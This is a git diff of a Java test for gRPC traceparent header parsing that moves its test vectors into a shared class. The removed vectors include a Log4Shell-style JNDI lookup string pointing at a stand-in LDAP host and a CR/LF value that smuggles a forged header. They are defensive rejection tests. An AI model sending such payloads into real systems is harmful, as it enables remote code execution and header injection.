@@ -6,6 +6,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import io.github.grpcmiddleware.testing.GrpcServerExtension;
 import io.github.grpcmiddleware.testing.LogCapture;
+import io.github.grpcmiddleware.testsupport.TraceContextVectors;
 import io.grpc.Metadata;
 import io.grpc.stub.MetadataUtils;
 import io.grpc.testing.protobuf.SimpleServiceGrpc;
@@ -25,9 +26,9 @@ class TraceHeadersTest {
       Metadata.Key.of("traceparent", Metadata.ASCII_STRING_MARSHALLER);
   static final Metadata.Key<String> X_REQUEST_ID =
       Metadata.Key.of("x-request-id", Metadata.ASCII_STRING_MARSHALLER);
-  static final String T = "4bf92f3577b34da6a3ce929d0e0e4736";
-  static final String P = "00f067aa0ba902b7";
-  static final String VALID = "00-" + T + "-" + P + "-01";
+  static final String T = TraceContextVectors.TRACE_ID;
+  static final String P = TraceContextVectors.PARENT_ID;
+  static final String VALID = TraceContextVectors.VALID;
 
   @RegisterExtension
   static final GrpcServerExtension grpc =
@@ -41,37 +42,10 @@ class TraceHeadersTest {
       LogCapture.forLogger("io.github.grpcmiddleware.trace").atLevel("DEBUG");
 
   static Stream<Arguments> traceparents() {
-    return Stream.of(
-        Arguments.of("version 00", VALID, T),
-        Arguments.of("not sampled", "00-" + T + "-" + P + "-00", T),
-        Arguments.of("unknown flag bits", "00-" + T + "-" + P + "-09", T),
-        Arguments.of("higher version, 55 chars", "01-" + T + "-" + P + "-01", T),
-        Arguments.of("higher version, more fields", "cc-" + T + "-" + P + "-01-what-next", T),
-        Arguments.of("higher version, trailing dash", "fe-" + T + "-" + P + "-01-", T),
-        Arguments.of("version ff", "ff-" + T + "-" + P + "-01", null),
-        Arguments.of("uppercase trace id", "00-" + T.toUpperCase() + "-" + P + "-01", null),
-        Arguments.of("uppercase parent id", "00-" + T + "-" + P.toUpperCase() + "-01", null),
-        Arguments.of("uppercase flags", "00-" + T + "-" + P + "-0A", null),
-        Arguments.of("uppercase version", "0A-" + T + "-" + P + "-01", null),
-        Arguments.of("zero trace id", "00-" + "0".repeat(32) + "-" + P + "-01", null),
-        Arguments.of("zero parent id", "00-" + T + "-" + "0".repeat(16) + "-01", null),
-        Arguments.of("version 00 too long", VALID + "-", null),
-        Arguments.of("version 00 too long, more fields", VALID + "-what-next", null),
-        Arguments.of("too short", VALID.substring(0, 54), null),
-        Arguments.of("higher version too short", "01-" + T + "-" + P + "-1", null),
-        Arguments.of("higher version, no dash after flags", "01-" + T + "-" + P + "-01x", null),
-        Arguments.of("non-hex trace id", "00-" + T.substring(0, 31) + "g-" + P + "-01", null),
-        Arguments.of("non-hex version", "0g-" + T + "-" + P + "-01", null),
-        Arguments.of("non-hex flags", "00-" + T + "-" + P + "-0z", null),
-        Arguments.of("wrong delimiter", "00_" + T + "-" + P + "-01", null),
-        Arguments.of("short trace id", "00-" + T.substring(1) + "-" + P + "-01x", null),
-        Arguments.of("leading space", " " + VALID.substring(0, 54), null),
-        Arguments.of("empty", "", null),
-        Arguments.of("10 KB", "0".repeat(10 * 1024), null),
-        Arguments.of("CR/LF", "00-" + T + "\r\n-" + P + "-01", null),
-        Arguments.of("CR/LF after a valid value", VALID + "\r\nx-forged: 1", null),
-        Arguments.of("non-ASCII", "00-" + T.substring(0, 31) + "é-" + P + "-01", null),
-        Arguments.of("lookup syntax", "${jndi:ldap://x.example/a}-" + T + "-" + P, null));
+    return Stream.concat(
+        TraceContextVectors.traceparents().stream()
+            .map(c -> Arguments.of(c.name(), c.value(), c.continues() ? T : null)),
+        Stream.of(Arguments.of("not sampled", "00-" + T + "-" + P + "-00", T)));
   }
 
   @ParameterizedTest(name = "[{index}] {0}")
